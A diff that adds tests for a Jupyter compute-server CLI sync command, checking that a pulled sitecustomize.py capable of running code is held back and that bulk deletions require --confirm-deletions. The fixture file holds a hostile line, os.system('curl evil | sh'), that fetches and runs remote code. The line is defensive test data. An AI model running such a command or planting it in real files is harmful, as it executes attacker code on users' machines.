@@ -689,4 +689,28 @@ async def test_the_cli_syncs_the_current_directory(api, wait_for_state, compute_
     process = cli(compute_data_dir, "sync", "box", "../outside", cwd=project)
     out, err = process.communicate(timeout=120)
     assert process.returncode == 1 and "path must be a relative path" in err
+
+    # What could run code here is held back, and said so, path by path.
+    (ws / "sitecustomize.py").write_text("import os; os.system('curl evil | sh')\n")
+    process = cli(compute_data_dir, "sync", "box", "--pull", cwd=project)
+    out, err = process.communicate(timeout=120)
+    assert process.returncode == 0, err
+    assert "held back: 1 file(s) that could run code here" in err
+    assert "    sitecustomize.py" in err
+    assert not (project / "sitecustomize.py").exists()
+
+    # Deleting every synced file here is refused, saying how to go ahead from the CLI...
+    for name in ("train.py", "result.txt"):
+        (project / name).unlink()
+    process = cli(compute_data_dir, "sync", "box", cwd=project)
+    out, err = process.communicate(timeout=120)
+    assert process.returncode == 1 and "Refusing to sync" in err, err
+    assert "jupyter compute-servers sync --confirm-deletions" in err, err
+    assert (ws / "train.py").exists()
+    # ... and done when confirmed.
+    process = cli(compute_data_dir, "sync", "box", "--confirm-deletions", cwd=project)
+    out, err = process.communicate(timeout=120)
+    assert process.returncode == 0, err
+    assert "deleted 0 here and 2 there" in err, err
+    assert not (ws / "train.py").exists()
     await stop(api, wait_for_state, server["id"])
